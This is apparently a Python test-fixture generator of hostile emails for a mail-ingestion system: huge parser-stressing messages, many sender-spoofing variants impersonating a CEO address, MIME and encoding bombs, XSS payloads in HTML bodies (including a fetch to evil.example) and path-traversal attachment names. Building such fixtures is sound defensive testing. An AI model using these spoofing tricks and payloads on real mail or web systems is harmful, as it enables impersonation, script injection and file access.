"""Hostile mails made afresh: the largest and dearest of each kind, and small ones with a seed.

    raw = WORST["nothing but line ends"]()          # 20 MB
    for one in made(seed=7): ...                    # Made(name, raw, kind, …): small ones
"""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TypeVar

T = TypeVar("T")

SIZE = 20 * 1024 * 1024 - 4096
MB = 1024 * 1024


def top(sender: str = "Ana <ana@sales.example>", subject: str = "Worst", *lines: str) -> bytes:
    """The header of a mail, without the empty line behind it."""
    fields = [f"From: {sender}", "To: Bo <bo@cust.example>", f"Subject: {subject}", "Date: Fri, 20 Nov 2026 10:00:00 +0000", "Message-ID: <worst@made.example>"]
    return "".join(line + "\r\n" for line in [*fields, "MIME-Version: 1.0", *lines]).encode("utf-8", "surrogateescape")


def filled(piece: bytes, *lines: str, begin: bytes = b"", end: bytes = b"") -> bytes:
    """A mail of 20 MB whose body is one piece over and over."""
    head = top("Ana <ana@sales.example>", "Worst", *lines) + b"\r\n" + begin
    return head + piece * ((SIZE - len(head) - len(end)) // len(piece)) + end


def _mixed(piece: bytes, begin: bytes = b"") -> bytes:
    return filled(piece, "Content-Type: multipart/mixed; boundary=b", begin=begin, end=b"\r\n--b--\r\n")


def _html(piece: str, begin: str = "", end: str = "") -> bytes:
    return filled(piece.encode(), "Content-Type: text/html; charset=utf-8", begin=begin.encode(), end=end.encode())


def _text(piece: bytes, charset: str = "utf-8", more: str = "") -> bytes:
    return filled(piece, f"Content-Type: text/plain; charset={charset}{more}")


def _coded(piece: bytes, coding: str, kind: str = "application/pdf") -> bytes:
    return filled(piece, f"Content-Type: {kind}", f"Content-Transfer-Encoding: {coding}")


def _signed_by_strangers(body: bytes) -> bytes:
    """Eight signatures, each of another kind, over a body that is dear to canonicalise."""
    ways = ("relaxed/relaxed", "simple/relaxed", "relaxed/simple", "simple/simple")
    lines = [
        f"DKIM-Signature: v=1; a={'rsa' if number % 2 else 'ed25519'}-sha256; c={ways[number % 4]}; d=sales.example; s=s{number}; h=From; "
        f"l={SIZE - 100_000 * number}; bh={base64.b64encode(bytes(32)).decode()}; b={base64.b64encode(bytes(256)).decode()}"
        for number in range(8)
    ]
    return filled(body, *lines)


# Each about 20 MB: what is dearest for one stage or another of the reading.
WORST: dict[str, Callable[[], bytes]] = {
    "nothing but line ends": lambda: _text(b"\r\n"),
    "nothing but line feeds": lambda: _text(b"\n"),
    "nothing but returns": lambda: _text(b"\r"),
    "one line of blanks": lambda: _text(b" "),
    "blanks under eight signatures": lambda: _signed_by_strangers(b" "),
    "blanks and line ends under eight signatures": lambda: _signed_by_strangers(b" \t \r\n"),
    "line ends under eight signatures": lambda: _signed_by_strangers(b"\r\n"),
    "empty parts": lambda: _mixed(b"--b\r\n\r\n\r\n"),
    "boundary lines alone": lambda: _mixed(b"--b\n"),
    "nearly boundary lines": lambda: _mixed(b"\n--bx"),
    "boundaries in one line": lambda: _mixed(b"--b"),
    "parts that nest": lambda: top() + b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level) for level in range(49)
    ) + b"Content-Type: text/plain\r\n\r\n" + b"--b48\r\n\r\nx\r\n" * (SIZE // 14),
    "mails in mails": lambda: (top() + b"Content-Type: message/rfc822\r\n\r\n") * (SIZE // 250),
    "many files": lambda: _mixed(b'--b\r\nContent-Disposition: attachment; filename="x"\r\n\r\n' + b"x" * 20_000 + b"\r\n"),
    "files of many mails": lambda: _mixed(b"--b\r\nContent-Type: message/rfc822\r\n\r\n" + top() + b"\r\n" + b"hello\r\n" * 10_000),
    "a header without an end": lambda: filled(b"X: y\r\n")[:-2].replace(b"\r\n\r\nX", b"\r\nX", 1),
    "one field without an end": lambda: top() + b"X-Long:" + b" abcdefgh\r\n" * (SIZE // 11) + b"\r\nhello",
    "base64 of nothing": lambda: _coded(b"====\r\n!!!\r\n", "base64"),
    "base64 letter by letter": lambda: _coded(b"Q\r\n", "base64"),
    "quoted-printable": lambda: _coded(b"=41", "quoted-printable", "text/plain"),
    "quoted-printable soft lines": lambda: _coded(b"=  \r\n", "quoted-printable", "text/plain"),
    "uuencode that never ends": lambda: _text(b"begin 644 x\nM" + b"A" * 60 + b"\n"),
    "uuencoded letters": lambda: _text(b"!00\n", more="\r\nX-Begin: 1\r\n\r\nbegin 644 x"),
    "uuencoded nothing": lambda: _text(b"\n", more="\r\nX-Begin: 1\r\n\r\nbegin 644 x"),
    "text of emoji": lambda: _text("😀".encode()),
    "text of no charset": lambda: _text(b"\x81\x8d", "x-unknown"),
    "utf-7": lambda: _text(b"+AGE-", "utf-7"),
    "iso-2022-jp": lambda: _text(b"\x1b$B$\"\x1b(B", "iso-2022-jp"),
    "iso-2022-jp broken": lambda: _text(b"\x1b$B\xff\xfe\x1b(Bx", "iso-2022-jp"),
    "gb18030": lambda: _text(b"\x81\x30\x81\x30", "gb2312"),
    "utf-16": lambda: _text(b"\xd8\x00\xdc\x00", "utf-16"),
    "flowed": lambda: _text(b"> a \n", more="; format=flowed; delsp=yes"),
    "quotes": lambda: _text(b">"),
    "quoted lines": lambda: _text(b"On 1 Bo <b@c.example> wrote:\n> x\n"),
    "forwarded blocks": lambda: _text(b"---------- Forwarded message ---------\nFrom: Bo <bo@cust.example>\nDate: x\nSubject: y\nTo: z\n\n"),
    "forward labels": lambda: _text(b"From:\nSent:\nTo:\nSubject:\n"),
    "dividers": lambda: _text(b"-----Original Message-----\n"),
    "html of open tags": lambda: _html("<div>"),
    "html of angles": lambda: _html("<"),
    "html of amps": lambda: _html("&amp;"),
    "html tables": lambda: _html("<table><tr><td>x"),
    "html formatting": lambda: _html("<b><i><a href=x>"),
    "html comments": lambda: _html("<!--"),
    "html attributes": lambda: _html(" a=b", "<p "),
    "html attributes of many names": lambda: top("Ana <ana@sales.example>", "Worst", "Content-Type: text/html") + b"\r\n<p " + b" ".join(b"a%d=1" % number for number in range(SIZE // 11)) + b">",
    "html styles": lambda: _html("color:red;", "<p style='", "'>"),
    "html scripts": lambda: _html("<script>x</script>"),
    "html blockquotes": lambda: _html("<blockquote>On 1 Bo wrote:<br>"),
    "html option groups": lambda: _html("x<optgroup>"),
    "html misnested": lambda: _html("<span><div></span></div>"),
    "html misnested tables": lambda: _html("<b><table></b></table>"),
    "html ampersands": lambda: _html("& "),
    "html select": lambda: _html("<select><option>x"),
    "html math": lambda: _html("<math><mtext><table><mglyph><style><!--</style>"),
    "html pictures": lambda: _html("<img src='cid:a'>"),
    "html links": lambda: _html("<a href='https://x.example/'>x</a>"),
    "html words": lambda: _html("word "),
    "a calendar": lambda: filled(b"METHOD:\r\n", "Content-Type: text/calendar"),
    "a report": lambda: filled(b"Final-Recipient: rfc822; x@y.example\r\n\r\n", "Content-Type: multipart/report; report-type=delivery-status; boundary=b", begin=b"--b\r\nContent-Type: message/delivery-status\r\n\r\n"),
    "nul bytes": lambda: _text(b"\0"),
    "every byte": lambda: _text(bytes(range(256))),
}


# --- small ones, with a seed ---------------------------------------------------------------------------------------

VICTIM = "ceo@victim.example"  # a rep; in none of these mails may he be taken for the sender
REP = "rep@sender.example"  # a rep whose mail is proved by SPF


@dataclass(frozen=True)
class Made:
    """A hostile mail. `proved`: it comes from the rep's own server, else from a stranger's whose domain is `stranger`."""

    name: str
    raw: bytes
    kind: str  # identity, mime, html, file, machine, forward
    proved: bool = False
    stranger: str = "evil.example"
    rcpt: str = "drop@crm.example"
    mail_from: str | None = None


class Maker:
    """Makes mails of every kind from one random source, so that a seed gives them again."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        self.stranger = f"{self.word()}.{self.random.choice(['test', 'example', 'example.net'])}"

    def word(self, least: int = 4, most: int = 9) -> str:
        return "".join(self.random.choices(string.ascii_lowercase, k=self.random.randint(least, most)))

    def any(self, *options: T) -> T:
        return self.random.choice(options)

    def case(self, text: str) -> str:
        return "".join(self.any(char.upper(), char.lower()) for char in text)

    def lines(self, *fields: str, body: bytes = b"hello\r\n", end: str = "\r\n") -> bytes:
        common = [f"To: Bo <{self.word()}@cust.example>", f"Subject: {self.word()}", f"Message-ID: <{self.word(12, 12)}@{self.stranger}>", "Date: Mon, 2 Mar 2026 10:00:00 +0000"]
        self.random.shuffle(common)
        at = self.random.randint(0, len(common))
        return end.join([*common[:at], *fields, *common[at:]]).encode("utf-8", "surrogateescape") + (end * 2).encode() + body

    # -- who sent it --

    def identities(self) -> Iterator[tuple[str, bytes]]:
        me, who = f"{self.word()}@{self.stranger}", self.any(VICTIM, self.case(VICTIM), VICTIM + ".")
        name = self.any("Ceo", '"The, Ceo"', "=?utf-8?q?C=C3=A9o?=", self.word())
        first, second = self.random.sample([f"{self.case('from')}: {name} <{who}>", f"From: {me}"], 2)
        yield "two From fields", self.lines(first, second)
        yield "two From fields, one folded", self.lines(f"From:\r\n {who}", f"from: {me}")
        yield "two From fields, a blank before the colon", self.lines(f"From : {who}", f"From: {me}")
        yield "two From fields, a tab before the colon", self.lines(f"From: {me}", f"From\t: {who}")
        yield "the same From twice", self.lines(f"From: {who}", f"From: {who}")
        yield "a second From behind a bare line feed", self.lines(f"From: {me}\nFrom: {who}")
        for where in ("Subject", "To", "X-Note", "Message-ID", "Date"):
            yield f"a second From behind a bare return in {where}", self.lines(f"From: {me}", f"{where}: x\rFrom: {who}")
            yield f"the only From behind a bare return in {where}", self.lines(f"{where}: x\rFrom: {who}")
        yield "bare returns for line ends in the header", self.lines(f"From: {me}\rReply-To: x@y.example\rFrom: {who}\r\rx")
        for mark in ("\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"):
            yield f"a second From behind {mark!r}", self.lines(f"From: {me}", f"X-Note: x{mark}From: {who}")
        yield "NUL in the name of the field", self.lines(f"From: {me}", f"Fr\0om: {who}")
        yield "NUL in the address", self.lines(f"From: {who}\0{me}")
        yield "NUL behind the address", self.lines(f"From: <{me}>\0 <{who}>")
        yield "two mailboxes", self.lines(f"From: {', '.join(self.random.sample([me, who], 2))}")
        yield "three mailboxes", self.lines(f"From: {name} <{who}>, {me}, x@y.example")
        yield "two mailboxes and a sender", self.lines(f"Sender: {me}", f"From: {who}, {me}")
        yield "a group", self.lines(f"From: team: {who}, {me};")
        yield "a group of nobody", self.lines(f"From: {who}:;")
        yield "an address for a name", self.lines(f"From: {who} <{me}>")
        yield "a quoted address for a name", self.lines(f'From: "{who}" <{me}>')
        yield "an encoded address for a name", self.lines(f"From: =?utf-8?b?{base64.b64encode(who.encode()).decode()}?= <{me}>")
        yield "an encoded mailbox for a name", self.lines(f"From: =?utf-8?q?=3C{who.replace('@', '=40')}=3E?= <{me}>")
        yield "an encoded name that breaks the line", self.lines(f"From: =?utf-8?q?x=0D=0AFrom:_{who.replace('@', '=40')}?= <{me}>")
        yield "an encoded address", self.lines("From: <=?utf-8?q?ceo?=@victim.example>")
        yield "an encoded word in place of the address", self.lines(f"From: =?utf-8?q?{who.replace('@', '=40')}?=")
        yield "a comment with an address", self.lines(f"From: ({who}) {me}")
        yield "a comment inside the address", self.lines(f"From: <ceo(@victim.example>)@{self.stranger}>")
        yield "comments in comments", self.lines(f"From: {'(' * 40}{who}{')' * 40} <{me}>")
        yield "a comment without end", self.lines(f"From: {who} ({me}")
        yield "a quote without end", self.lines(f'From: "{who} <{me}>')
        yield "a bracket without end", self.lines(f"From: {me} <{who}")
        yield "two brackets", self.lines(f"From: <{who}> <{me}>")
        yield "brackets in brackets", self.lines(f"From: <{me}<{who}>>")
        yield "an address behind the bracket", self.lines(f"From: <{me}> {who}")
        yield "a route", self.lines(f"From: <@{self.stranger}:{who}>")
        yield "a percent hack", self.lines(f"From: ceo%victim.example@{self.stranger}")
        yield "a quoted local part with an address", self.lines(f'From: "{who}"@{self.stranger}')
        yield "an escaped quote", self.lines(f'From: "x\\" <{who}> \\"" <{me}>')
        yield "blanks in the address", self.lines(f"From: <ceo@ victim.example {self.stranger}>")
        yield "the victim's domain in front", self.lines(f"From: ceo@victim.example.{self.stranger}")
        for what, look in (
            ("a Cyrillic letter", "ceо@victim.example"), ("a Cyrillic domain", "ceo@vіctim.example"), ("a wide letter", "ｃeo@victim.example"), ("a wide dot", "ceo@victim．example"),
            ("a zero-width space", "ceo\u200b@victim.example"), ("a zero-width joiner", "ceo@victim\u200d.example"), ("a soft hyphen", "ceo@vic\u00adtim.example"),
            ("a turned text", "\u202eelpmaxe.mitciv@oec"), ("a combining mark", "ceo\u0301@victim.example"), ("a dotted I", "ceo@vİctim.example"), ("an ideographic full stop", "ceo@victim。example"),
            ("punycode", "ceo@xn--vctim-2za.example"), ("a tag character", "ceo\U000e0041@victim.example"), ("a sign for c/o", "\u2105@victim.example"),
        ):  # fmt: skip
            yield f"a look-alike with {what}", self.lines(f"From: Ceo <{look}>")
        yield "overlong UTF-8", self.lines("From: ceo\udcc1\udc80victim.example <" + me + ">")
        yield "other fields with the victim", self.lines(f"Sender: {who}", f"Reply-To: {who}", f"X-Original-From: {who}", f"Return-Path: <{who}>", f"Resent-From: {who}", f"From: {me}")
        yield "an mbox line with the victim", f"From {who} Mon Mar  2 10:00:00 2026\r\n".encode() + self.lines(f"From: {me}")
        yield "the victim in the text", self.lines(f"From: {me}", body=f"From: {who}\r\n\r\nhi".encode())
        yield "the victim in a folded line", self.lines(f"From: {me}", f"X-Note: x\r\n\tFrom: {who}")
        yield "a header that ends at once", b"\r\n" + self.lines(f"From: {who}")
        yield "a long From", self.lines(f"From: {'x' * 30_000} <{who}>")
        yield "thousands of From fields", self.lines(*[f"From: {who}"] * 2000)
        yield "From beyond the limit of the header", self.lines(f"From: {me}", *[f"X-{n}: y" for n in range(1200)], f"From: {who}")

    # -- what it costs and how it is shown --

    def bodies(self) -> Iterator[tuple[str, bytes]]:
        me = f"From: Rep <{REP}>"
        for codec in self.random.sample(["zlib", "rot13", "idna", "punycode", "undefined", "unicode_escape", "raw_unicode_escape", "hex", "bz2", "uu", "quopri", "mbcs", "oem", "utf-8-sig", "../../etc/passwd", "x" * 3000], 8):
            yield f"charset {codec[:20]}", self.lines(me, f"Content-Type: text/plain; charset={codec}", body=bytes(self.random.randbytes(300)) + b"ok")
        for coding in ("base64", "quoted-printable", "x-uuencode", "binhex40", "x-yenc", "gzip", "base64, base64"):
            yield f"encoding {coding}", self.lines(me, f"Content-Transfer-Encoding: {coding}", body=self.random.randbytes(3000))
        depth = self.random.randint(51, 400)
        for kind in ("multipart/mixed", "multipart/alternative", "multipart/related", "multipart/signed"):
            boundaries = [self.word(1, 20) + str(level) for level in range(depth)]
            yield f"{kind} in itself {depth} times", self.lines(me, body=b"").rstrip() + b"\r\n" + b"".join(f"Content-Type: {kind}; boundary={one}\r\n\r\n--{one}\r\n".encode() for one in boundaries) + b"\r\nx"
        yield "attached mails in attached mails", (me + "\r\nContent-Type: message/rfc822\r\n\r\n").encode() * self.random.randint(20, 300)
        for boundary in ('""', "  ", "-", "--", "a" * 3000, "b\0c", "\xff".encode().decode("latin-1"), '"a b "', "(x)", "=?utf-8?q?b?="):
            inside = boundary.strip('"').encode("latin-1")
            yield f"boundary {boundary[:10]!r}", self.lines(me, f"Content-Type: multipart/mixed; boundary={boundary}", body=b"--" + inside + b"\r\n\r\nx\r\n--" + inside + b"--\r\n")
        yield "parameters in pieces", self.lines(me, "Content-Type: text/plain; " + "; ".join(f"name*{n}*=%41" for n in self.random.sample(range(9999), 3000)))
        yield "parameters without values", self.lines(me, "Content-Type: text/plain" + ";" * 20_000)
        yield "encoded words without end", self.lines(me, "Subject: " + "=?utf-8?q?" * 5000)
        yield "ids without end", self.lines(me, "References: " + "<a@b> " * 9000, "In-Reply-To: " + "<" * 9000)
        yield "a date of nothing", self.lines(me, "Date: " + self.any("Mon, 99 Foo 99999 99:99:99 +9999", "0", "-1", "9" * 4000, "\xff\xfe", "((((("))
        yield "many people", self.lines(me, "Cc: " + ", ".join(f"{self.word()}{n}@cust.example" for n in range(5000)))
        yield "every byte", self.lines(me, body=bytes(range(256)) * 20)
        yield "no body and no end", self.lines(me).partition(b"\r\n\r\n")[0]

    def pages(self) -> Iterator[tuple[str, str]]:
        blank = lambda: self.any(" ", "\t", "\n", "/", "\x0c", "  ")  # noqa: E731
        act = self.any("alert(1)", "fetch('//evil.example')", "window.top.pwned=1")
        for tag in self.random.sample(["script", "svg", "iframe", "object", "embed", "math", "link", "meta", "base", "form", "style", "template", "video", "marquee"], 9):
            yield f"<{tag}>", f"<{self.case(tag)}{blank()}src=//evil.example/x{blank()}href=//evil.example{blank()}{self.case('onload')}={act}>{act}</{tag}>"
        for handler in self.random.sample(["onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "hx-get", "hx-on:click", "data-hx-post"], 6):
            yield handler, f"<img{blank()}src=x{blank()}{self.case(handler)}{self.any('', ' ')}={self.any(chr(34), chr(39))}{act}>{'x' * 5}"
        for link in ("javascript:", "java\tscript:", "&#106;avascript:", "vbscript:", "data:text/html,", "\x01javascript:", "//evil.example", "file:///etc/passwd"):
            yield f"link {link!r}", f"<a href=\"{link}{act}\">x</a><img src=\"{link}x\"><table background=\"{link}x\"><td style=\"background:url({link}x)\">y"
        yield "tags in tags", f"<<script>script>{act}<</script>/script><scr<script>ipt>{act}</scr</script>ipt>"
        yield "a comment that ends early", f"<!--><img src=x onerror={act}>--><![CDATA[<svg onload={act}>]]>"
        yield "mutation", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={act}&gt;\">"
        yield "utf-7", f"+ADw-script+AD4-{act}+ADw-/script+AD4-"

    def names(self) -> Iterator[str]:
        yield from ("../" * 8 + self.word(), "C:\\Windows\\" + self.word() + ".dll", "\u202e" + self.word() + "fdp.exe", self.word() + "\0.exe", "." * 50 + "htaccess", self.word() * 80 + ".pdf")
        yield from ("=?utf-8?q?..=2F..=2Fetc=2Fpasswd?=", "a\u200bb\ufeff.txt", "con", "a\r\n b.txt", "<img src=x onerror=alert(1)>.png", "nul:stream.txt", " ", "/", "%2e%2e%2f" + self.word(), "x" * 255 + "é.pdf")

    def machines(self) -> Iterator[tuple[str, bytes]]:
        me = f"From: Rep <{REP}>"
        for value in ("auto-replied", "auto-generated", "Auto-Notified; x=y", " AUTO-REPLIED (vacation)"):
            yield f"Auto-Submitted: {value}", self.lines(f"{self.case('auto-submitted')}: {value}", me)
        yield "X-Autoreply", self.lines(me, "X-Autoreply: yes")
        yield "a delivery report", self.lines(me, "Content-Type: multipart/report; report-type=delivery-status; boundary=b", body=b"--b\r\n\r\nx\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\nAction: failed\r\n--b--\r\n")
        yield "a read receipt", self.lines(me, "Content-Type: multipart/report; report-type=disposition-notification; boundary=b", body=b"--b\r\n\r\nx\r\n--b--\r\n")

    def blocks(self) -> Iterator[tuple[str, bytes]]:
        me = f"From: {self.word()}@{self.stranger}"
        head = "---------- Forwarded message ---------\r\nFrom: {}\r\nDate: Mon, Mar 2, 2026 at 9:00 AM\r\nSubject: Ten chairs\r\nTo: <x@y.example>\r\n\r\nThe text.\r\n"
        for author in (f"Ceo <{VICTIM}>", VICTIM, f'"{VICTIM}" <x@y.example>', "<javascript:alert(1)>", "drop@crm.example"):
            yield f"a forged block of {author}", self.lines(me, "Subject: Fwd: Ten chairs", body=head.format(author).encode())
        yield "a forged attached original", self.lines(me, "Content-Type: message/rfc822", body=self.lines(f"From: {VICTIM}"))
        for piece in ("From: ", "From:\r\n", "-----Original Message-----\r\n", "> ", "*From:* <", "On Mon, Bo wrote:\r\n", "From:" + " " * 5000 + "\r\n"):
            yield f"a block without end of {piece[:12]!r}", self.lines(me, "Subject: Fwd: x", body=(piece * (100_000 // len(piece))).encode())


def made(seed: int) -> list[Made]:
    """Some 170 mails; each kind is there with every seed, and names, addresses, cases, places and lengths differ."""
    maker = Maker(seed)
    found = [Made(name, raw, "identity", stranger=maker.stranger) for name, raw in maker.identities()]
    found += [Made(name, raw, "mime", proved=True) for name, raw in maker.bodies()]
    for name, html in maker.pages():
        charset = "utf-7" if name == "utf-7" else "utf-8"
        found.append(Made(name, maker.lines(f"From: Rep <{REP}>", f"Content-Type: text/html; charset={charset}", body=html.encode()), "html", proved=True))
    for name in maker.names():
        part = b'--b\r\n\r\nhi\r\n--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="' + name.encode("utf-8", "surrogateescape") + b'"\r\n\r\n<b>x</b>\r\n--b--\r\n'
        found.append(Made(f"file {name[:30]!r}", maker.lines(f"From: Rep <{REP}>", "Content-Type: multipart/mixed; boundary=b", body=part), "file", proved=True))
    found += [Made(name, raw, "machine", proved=True) for name, raw in maker.machines()]
    found += [Made(name, raw, "forward", stranger=maker.stranger, rcpt="drop-fwd@crm.example") for name, raw in maker.blocks()]
    return found
